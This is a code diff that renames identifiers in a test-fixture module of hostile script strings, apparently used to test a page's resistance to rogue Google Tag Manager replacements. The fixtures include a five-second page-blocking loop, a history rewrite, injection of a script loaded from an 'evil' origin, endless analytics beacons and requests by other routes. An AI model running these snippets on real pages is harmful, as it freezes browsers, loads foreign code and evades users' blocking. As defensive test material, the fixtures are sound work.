@@ -1,5 +1,5 @@
-/** Scripts in place of Google Tag Manager's, by what they do wrong. */
-export const hostile = {
+/** Scripts that replace Google Tag Manager's, by their bad behavior. */
+export const hostileScripts = {
   'throws immediately': `throw new Error('stand-in: thrown')`,
   'blocks the page for five seconds': `const end = performance.now() + 5000; while (performance.now() < end);`,
   'rewrites the history': `
@@ -17,8 +17,8 @@ export const hostile = {
     try { script.src = evil + 'script.js'; document.head.append(script) } catch {}`,
 } as const
 
-/** Sends three requests every 20 ms until the document unloads. */
-export const neverStops = `setInterval(() => {
+/** A script that sends three requests every 20 ms until the document unloads. */
+export const endlessScript = `setInterval(() => {
   const url = 'https://region1.google-analytics.com/g/collect?en=still&by='
   navigator.sendBeacon(url + 'beacon')
   new Image().src = url + 'picture'
@@ -29,7 +29,7 @@ export const neverStops = `setInterval(() => {
  * Runs in the page. Requests a style sheet, a prefetch, a preload, and a font from an origin.
  * @returns the number of requests
  */
-export function tryOtherWays(origin: string): number {
+export function requestOtherFiles(origin: string): number {
   const link = (rel: string, more: object) =>
     document.head.append(Object.assign(document.createElement('link'), { rel, ...more }))
   link('stylesheet', { href: `${origin}sheet.css` })
